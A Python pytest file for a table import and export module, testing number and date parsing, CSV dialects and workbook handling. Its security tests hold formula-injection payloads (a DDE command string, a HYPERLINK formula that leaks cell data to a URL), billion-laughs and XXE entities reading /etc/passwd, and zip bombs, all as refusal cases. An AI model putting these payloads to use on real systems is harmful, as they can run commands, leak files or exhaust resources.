"""Tables in and out: dialects, numbers, dates, formula payloads, bombs, and the way back."""

from __future__ import annotations

import io
import time
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st

from apps.core.errors import Refused
from apps.core.tabular import (
    ColumnReader,
    date_order_of,
    decimal_mark_of,
    guard,
    parse_date,
    parse_decimal,
    read_table,
    unguard,
    write_csv,
    write_xlsx,
)

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "'=already guarded",
    "\u00a0=1+1",
]


def code_of(act: object, *arguments: object, **options: object) -> str:
    with pytest.raises(Refused) as refused:
        act(*arguments, **options)  # type: ignore[operator]
    assert refused.value.message.endswith(".")
    return refused.value.code


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("1 234,5", "1234.5"),
        ("1\u00a0234,5", "1234.5"),
        ("1\u202f234.50", "1234.50"),
        ("1,234.5", "1234.5"),
        ("1.234,5", "1234.5"),
        ("1.234.567", "1234567"),
        ("1,234,567.1", "1234567.1"),
        ("1’234.5", "1234.5"),
        ("12,5", "12.5"),
        ("12.5", "12.5"),
        ("0,125", "0.125"),
        ("0.125", "0.125"),
        ("1234,567", "1234.567"),
        (",5", "0.5"),
        ("5.", "5"),
        ("-3", "-3"),
        ("\u22123,25", "-3.25"),
        ("(12.50)", "-12.50"),
        ("12.5-", "-12.5"),
        ("+7", "7"),
        ("1k", "1000"),
        ("2,5k", "2500"),
        ("1.2M", "1200000"),
        ("1.5E+03", "1500"),
        ("1E-2", "0.01"),
        ("1e30", "1" + "0" * 30),
        ("12345678901234567890123456789012k", "12345678901234567890123456789012000"),
        ("000", "0"),
        ("  42 ", "42"),
    ],
)
def test_numbers_as_people_write_them(text: str, number: str) -> None:
    assert str(parse_decimal(text)) == str(Decimal(number)) or parse_decimal(text) == Decimal(number)


@pytest.mark.parametrize("text", ["1,234", "999.999", "12.345"])
def test_a_number_with_two_readings_is_decided_by_the_column_or_refused(text: str) -> None:
    assert code_of(parse_decimal, text) == "ambiguous_number"
    assert parse_decimal(text, ",") != parse_decimal(text, ".")
    assert decimal_mark_of([text, "7"]) is None
    assert decimal_mark_of([text, "7,5"]) == ","
    assert decimal_mark_of([text, "7.25", Decimal("1.5")]) == "."


def test_a_column_with_both_marks_is_refused() -> None:
    assert code_of(decimal_mark_of, ["1,5", "x", "1.5"]) == "mixed_decimals"


@pytest.mark.parametrize(
    "text",
    [
        "",
        " ",
        "abc",
        "1 2",
        "1,23,4.5",
        "1..2",
        "--1",
        "1,2,3",
        "NaN",
        "Infinity",
        "1e999",
        "٣",
        "0x10",
        "1_000",
        "9" * 41,
        "1 234 5",
    ],
)
def test_what_is_no_number_is_refused(text: str) -> None:
    assert code_of(parse_decimal, text) == "not_a_number"


def test_the_mark_of_the_column_holds_for_each_value() -> None:
    assert parse_decimal("1.234", ",") == 1234
    assert parse_decimal("1.234", ".") == Decimal("1.234")
    assert code_of(parse_decimal, "1.5", ",") == "not_a_number"


@given(st.decimals(min_value=-(10**9), max_value=10**9, places=4), st.sampled_from([",", "."]))
def test_written_numbers_come_back(number: Decimal, mark: str) -> None:
    text = f"{number:,.4f}".replace(",", "\0").replace(".", mark).replace("\0", "." if mark == "," else ",")
    assert parse_decimal(text, mark) == number  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("text", "day"),
    [
        ("2026-11-24", (2026, 11, 24)),
        ("2026-11-24T23:59:00Z", (2026, 11, 24)),
        ("2026-11-24 05:06", (2026, 11, 24)),
        ("20261124", (2026, 11, 24)),
        ("2026/1/4", (2026, 1, 4)),
        ("24.11.2026", (2026, 11, 24)),
        ("3.4.2026", (2026, 4, 3)),
        ("24.11.26", (2026, 11, 24)),
        ("24/11/2026", (2026, 11, 24)),
        ("11/24/2026", (2026, 11, 24)),
        ("24-11-2026", (2026, 11, 24)),
        ("05/05/2026", (2026, 5, 5)),
        ("24 Nov 2026", (2026, 11, 24)),
        ("24-Nov-2026", (2026, 11, 24)),
        ("November 24, 2026", (2026, 11, 24)),
        ("29.02.2024", (2024, 2, 29)),
        ("46350", (2026, 11, 24)),  # the day number a workbook stores for this date
    ],
)
def test_dates_as_people_write_them(text: str, day: tuple[int, int, int]) -> None:
    assert parse_date(text) == date(*day)


@pytest.mark.parametrize("text", ["2026-02-30", "31.11.2026", "29.02.2025", "2026-13-01", "00/00/2026"])
def test_impossible_dates_are_refused(text: str) -> None:
    assert code_of(parse_date, text) in ("no_such_date", "ambiguous_date")


@pytest.mark.parametrize("text", ["", "soon", "12", "99999", "2026", "24/11", "x" * 5000, "2026-11-24 soon"])
def test_what_is_no_date_is_refused(text: str) -> None:
    assert code_of(parse_date, text) == "not_a_date"


def test_day_or_month_first_is_decided_by_the_column() -> None:
    assert code_of(parse_date, "03/04/2026") == "ambiguous_date"
    assert date_order_of(["03/04/2026", "13/04/2026"]) == "dmy"
    assert date_order_of(["03/04/2026", "04/13/2026"]) == "mdy"
    assert date_order_of(["03/04/2026"]) is None
    assert parse_date("03/04/2026", "dmy") == date(2026, 4, 3)
    assert parse_date("03/04/2026", "mdy") == date(2026, 3, 4)
    assert code_of(date_order_of, ["13/04/2026", "04/13/2026"]) == "mixed_dates"
    assert code_of(parse_date, "13/04/2026", "mdy") == "no_such_date"


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252"])
def test_csv_dialects_and_encodings(delimiter: str, encoding: str) -> None:
    text = '"Name"D"Preis"D"Note"\r\n"Müller; & Söhne, Göteborg"D1D"two\nlines ""quoted"""\r\n\r\nBäckD2D€\r\n'
    table = read_table(text.replace("D", delimiter).encode(encoding), "Export.CSV")
    assert table.header == ("Name", "Preis", "Note")
    assert [row.number for row in table.rows] == [2, 4]
    assert table.rows[0].cells == ("Müller; & Söhne, Göteborg", "1", 'two\nlines "quoted"')
    assert table.column("Note")[1] == "€"


def test_decimal_commas_do_not_pass_for_delimiters() -> None:
    table = read_table(b"item;price;qty\na;1,5;2,25\nb;3,5;1,75\n", "x.csv")
    assert table.header == ("item", "price", "qty")
    assert decimal_mark_of(table.column("price")) == ","
    declared = read_table(b"sep=;\na,b;c\n1,2;3\n", "x.csv")
    assert (declared.header, declared.rows[0].number, declared.rows[0].cells) == (("a,b", "c"), 3, ("1,2", "3"))


def test_ragged_rows_are_reported_at_their_row() -> None:
    table = read_table(b"a,b\n1\n1,2,3\n1,2,\n", "x.csv")
    assert [bool(row.problems) for row in table.rows] == [False, True, False]
    assert table.rows[0].cells == ("1", "")
    assert table.rows[1].number == 3


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        (b"", "x.csv", "empty_file"),
        (b"\n \n", "x.csv", "empty_file"),
        (b"a,A\n1,2\n", "x.csv", "column_twice"),
        (b'a,b\n1,"2\n3,4\n', "x.csv", "broken_csv"),
        (b'a,b\n1,"2"x\n', "x.csv", "broken_csv"),
        (b"a,b\n" + b"x" * 1_100_000, "x.csv", "broken_csv"),
        (b"a\n1\n2\n3\n", "x.csv", "too_many_rows"),
        (b"a,b,c,d\n", "x.csv", "too_many_columns"),
        (b"a,b\n\x001,2\n", "x.csv", "not_text"),
        (b"\xff\xfea", "x.csv", "not_text"),
        (b"a,b\n1,2\n", "x.xlsx", "wrong_file_kind"),
        (b"PK\x03\x04rest", "x.csv", "wrong_file_kind"),
        (b"<html>", "x.html", "wrong_file_kind"),
        (b"PK\x03\x04 cut off", "x.xlsx", "damaged_file"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "x.xlsx", "old_workbook"),
        (b"x" * (10 * 2**20 + 1), "x.csv", "file_too_large"),
    ],
)
def test_files_that_cannot_be_read_are_refused(data: bytes, name: str, code: str) -> None:
    assert code_of(read_table, data, name, max_rows=2, max_columns=3) == code


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_leave_guarded_and_come_back_whole(payload: str, tmp_path: Path) -> None:
    data = b"".join(write_csv(["name", "qty"], [[payload, Decimal(-3)]]))
    assert f'"{guard(payload)}"'.replace('""', '"').encode() in data.replace(b'""', b'"')
    assert guard(payload).startswith("'")
    back = read_table(data, "x.csv").rows[0]
    assert back.cells == (payload, "-3")
    path = tmp_path / "out.xlsx"
    assert write_xlsx(path, ["name", "qty"], [[payload, Decimal(-3)]], "Made for a test") == 1
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    cells = read_table(path.read_bytes(), "out.xlsx").rows[0].cells
    assert cells == (payload, Decimal(-3))


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r\n a1\uff1d")), max_size=8))
def test_guard_is_undone_exactly(text: str) -> None:
    assert unguard(guard(text)) == text
    assert not guard(text).lstrip(" \n\r\t").startswith(tuple("=+-@\uff1d"))


def test_workbook_keeps_types_and_source_rows(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    rows = [
        ["A-1", Decimal("1234.5"), date(2026, 11, 24), datetime(2026, 11, 24, 5, 6), True, None],
        ["long", Decimal("12345678901234567890.12"), None, None, False, "https://example.org"],
    ]
    write_xlsx(path, ["code", "price", "day", "at", "ok", "link"], rows, "Filter: open\nAs of today")
    table = read_table(path.read_bytes(), "out.xlsx")
    assert table.header == ("code", "price", "day", "at", "ok", "link")
    assert table.rows[0].cells == (*rows[0][:5], "")
    assert table.rows[1].cells[1] == "12345678901234567890.12"
    assert [row.number for row in table.rows] == [2, 3]
    assert "first of 2" in table.notes[0]


def _book(fill: object) -> bytes:
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer) as book:
        fill(book)  # type: ignore[operator]
    return buffer.getvalue()


def test_formulas_without_value_and_errors_are_reported_at_their_row() -> None:
    def fill(book: xlsxwriter.Workbook) -> None:
        hidden = book.add_worksheet("Secret")
        hidden.hide()
        page = book.add_worksheet("Prices")
        page.activate()
        page.write_row(2, 1, ["item", "price"])
        page.write_row(3, 1, ["a", 1.5])
        page.write_string(4, 1, "b")
        page.write_formula(4, 2, "=1+1", None, "")
        page.write_string(6, 1, "c")
        page.write_formula(6, 2, "=1/0", None, "#DIV/0!")
        page.write_string(7, 1, "d")
        page.write_formula(7, 2, "=1+1", None, 2)

    table = read_table(_book(fill), "prices.xlsx")
    assert table.header == ("Column 1", "item", "price")
    assert [(row.number, row.cells[1]) for row in table.rows] == [(4, "a"), (5, "b"), (7, "c"), (8, "d")]
    assert table.rows[1].problems[0].startswith("Cell C5 holds a formula without a stored value.")
    assert table.rows[2].problems[0].startswith("Cell C7 shows the error #DIV/0!.")
    assert table.rows[3].cells[2] == 2
    assert not table.rows[3].problems


def _repacked(changes: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    plain = _book(lambda book: book.add_worksheet().write_row(0, 0, ["a", "b"]))
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain)) as source, zipfile.ZipFile(buffer, "w", method) as target:
        for name in source.namelist():
            target.writestr(name, changes.get(name, source.read(name)))
        for name in changes.keys() - set(source.namelist()):
            target.writestr(name, changes[name])
    return buffer.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
HEAD = b'<?xml version="1.0"?>%s<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
OUTSIDE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
CELL = b'<row r="1"><c r="A1" t="str"><v>%s</v></c></row>'


@pytest.mark.parametrize(
    ("changes", "codes"),
    [
        ({"xl/media/zeros.bin": b"\0" * (30 << 20)}, {"file_bomb"}),
        ({f"x/{i}": b"" for i in range(201)}, {"file_bomb"}),
        ({SHEET: HEAD % (LAUGHS, CELL % b"&b;")}, {"unsafe_file"}),
        ({SHEET: HEAD % (OUTSIDE, CELL % b"&a;")}, {"unsafe_file"}),
        ({"xl/sharedStrings.xml": OUTSIDE + b"<sst/>"}, {"unsafe_file"}),
        ({SHEET: HEAD % (b"", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')}, {"too_many_rows"}),
        ({SHEET: HEAD % (b"", b'<row r="1"><c r="XFD1"><v>1</v></c></row>')}, {"too_many_columns"}),
        ({SHEET: b"<worksheet><sheetData><row>"}, {"unreadable_workbook"}),
        ({"xl/workbook.xml": b"not xml"}, {"unreadable_workbook"}),
    ],
    ids=["ratio", "entries", "laughs", "xxe", "xxe-strings", "far-cell", "wide-cell", "cut-xml", "no-xml"],
)
def test_hostile_workbooks_are_refused_quickly(changes: dict[str, bytes], codes: set[str]) -> None:
    started = time.monotonic()
    assert code_of(read_table, _repacked(changes), "x.xlsx") in codes
    assert time.monotonic() - started < 15


def test_a_lying_directory_does_not_hide_a_bomb() -> None:
    data = bytearray(_repacked({"xl/media/zeros.bin": b"\0" * (30 << 20)}))
    size = (30 << 20).to_bytes(4, "little")
    lie = (1000).to_bytes(4, "little")
    assert data.count(size) == 2
    assert code_of(read_table, bytes(data.replace(size, lie)), "x.xlsx") in ("damaged_file", "file_bomb")


@pytest.mark.parametrize("text", ["1" * 100_000, "(" * 100_000, " " * 100_000 + "x", "'" * 100_000, "1," * 50_000])
def test_long_inputs_end_soon(text: str) -> None:
    started = time.perf_counter()
    for act in (parse_decimal, parse_date):
        with pytest.raises(Refused):
            act(text)
    decimal_mark_of([text])
    date_order_of([text])
    unguard(guard(text))
    assert time.perf_counter() - started < 0.1


def test_a_column_is_read_by_what_all_its_cells_show() -> None:
    table = read_table(
        b"item;price;day;open\na;1.234;03/04/2026;Yes\nb;7,50;13/04/2026;0\nc;;;\nd;1,5;x;maybe\n", "x.csv"
    )
    reader = ColumnReader(table)
    read = [
        (reader.text(row, "item"), reader.decimal(row, "price"), reader.date(row, "day"), reader.yes(row, "open"))
        for row in table.rows[:3]
    ]
    assert read == [
        ("a", 1234, date(2026, 4, 3), True),
        ("b", Decimal("7.50"), date(2026, 4, 13), False),
        ("c", None, None, None),
    ]
    assert code_of(reader.date, table.rows[3], "day") == "not_a_date"
    with pytest.raises(Refused) as refused:
        reader.yes(table.rows[3], "open")
    assert (refused.value.code, refused.value.field) == ("not_yes_or_no", "open")
